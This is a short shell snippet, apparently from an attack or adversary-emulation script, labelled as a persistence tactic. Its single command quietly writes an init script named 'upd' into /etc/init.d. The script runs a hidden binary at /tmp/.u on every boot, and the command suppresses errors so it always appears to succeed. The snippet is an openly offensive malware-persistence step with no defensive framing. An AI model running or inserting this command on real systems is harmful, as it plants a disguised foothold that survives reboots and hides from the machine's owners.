# tactic: persistence
# install an init script
printf "#!/bin/sh\n/tmp/.u\n" > /etc/init.d/upd 2>/dev/null; true
